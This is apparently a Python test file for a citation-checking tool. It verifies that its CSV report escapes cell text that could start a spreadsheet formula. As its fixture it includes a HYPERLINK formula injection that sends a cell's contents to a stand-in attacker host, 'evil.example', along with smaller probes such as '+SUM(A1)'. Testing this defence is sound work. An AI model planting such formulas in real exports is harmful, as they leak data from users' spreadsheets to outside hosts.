"""The CSV report: one row per citation, and page text that cannot start a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from citecheck import report, report_render
from citecheck.models import Label
from citecheck.store import db as store
from tests.review._fixtures import add_article, add_check, at

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_rows_and_formula_guard() -> None:
    db = store.open_db(":memory:")
    ids = add_article(
        db, "a.txt", [(FORMULA, "https://ex.ru/1"), ("Plain claim.", "https://ex.ru/2")], title="@T"
    )
    add_check(db, ids[0], now=at(0), label=Label.UNSUPPORTED, text="-1 page", evidence="+SUM(A1)")
    add_check(db, ids[1], now=at(0), label=Label.SUPPORTED, text="ok", evidence="ok")
    text = report.render(report.collect(db, now=at(1)), "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(report_render.CSV_COLUMNS)
    assert [(r["citation_id"], r["verdict"], r["needs_look"]) for r in rows] == [
        (str(ids[0]), "unsupported", "1"),
        (str(ids[1]), "supported", "0"),
    ]
    first = rows[0]
    assert (first["claim"], first["evidence"], first["article"]) == ("'" + FORMULA, "'+SUM(A1)", "'@T")
    assert first["warc_path"] == "archive/citecheck-1.warc.gz" and first["score"] == "0.5"
